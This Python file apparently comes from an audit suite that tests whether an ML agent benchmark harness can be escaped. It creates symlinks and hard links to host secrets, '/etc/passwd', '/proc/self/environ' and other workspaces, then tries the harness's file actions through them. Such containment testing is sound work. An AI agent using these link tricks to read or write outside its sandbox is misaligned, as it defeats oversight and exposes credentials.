"""Attack: links that leave the workspace."""

from mlagentbench.audit.attacks.base import Attack, AttackOutcome
from mlagentbench.environment.environment import Environment

CODE = """
os.makedirs("nested", exist_ok=True)
links = {"absolute.py": TARGETS[0], "climbing.py": "../secret.txt", "root": "/", "up": "..", "loop": "loop",
         "nested/sibling.py": "../../workspace-of-another/secret.txt", "harness": "/proc/self/cwd",
         "outside.txt": "../written-through-a-link"}
for name, target in links.items():
    attempt(f"link {name}", lambda: os.symlink(target, name))
for target in [*TARGETS, "/etc/passwd", "/proc/self/environ"]:
    attempt(f"hard link to {target}", lambda: (os.link(target, "hard.py"), read("hard.py")))
"""


class Links(Attack):
    """Creates links to host files in the workspace for the actions of the harness to follow."""

    threats = (3,)
    task_independent = True

    def run(self, env: Environment) -> None:
        """Create links, then call every action that could follow one."""
        self.run_script(env, CODE, TARGETS=self.context.secret_files)
        for path in (
            "absolute.py",
            "climbing.py",
            "nested/sibling.py",
            "up/secret.txt",
            "up/run.json",
            "loop",
        ):
            self.try_action(env, "Read File", file_name=path)
            self.try_action(
                env, "Inspect Script Lines", script_name=path, start_line_number=1, end_line_number=9
            )
            self.try_action(env, "Copy File", source=path, destination=f"copy-of-{path.replace('/', '-')}")
        for folder in ("root", "up", "harness", "up/workspace-of-another"):
            self.try_action(env, "List Files", dir_path=folder)
        self.try_action(env, "Execute Script", script_name="climbing.py")
        self.try_action(env, "Write File", file_name="outside.txt", content="written")
        self.try_action(env, "Append File", file_name="up/secret.txt", content="written")
        self.finish_without_submission(env)

    def describe_gain(self, outcome: AttackOutcome) -> str:
        """Report a write through a link."""
        run = outcome.folder.path
        through = (run / "written-through-a-link").exists() or "written" in (run / "secret.txt").read_text()
        return "the harness wrote through a link" if through else ""
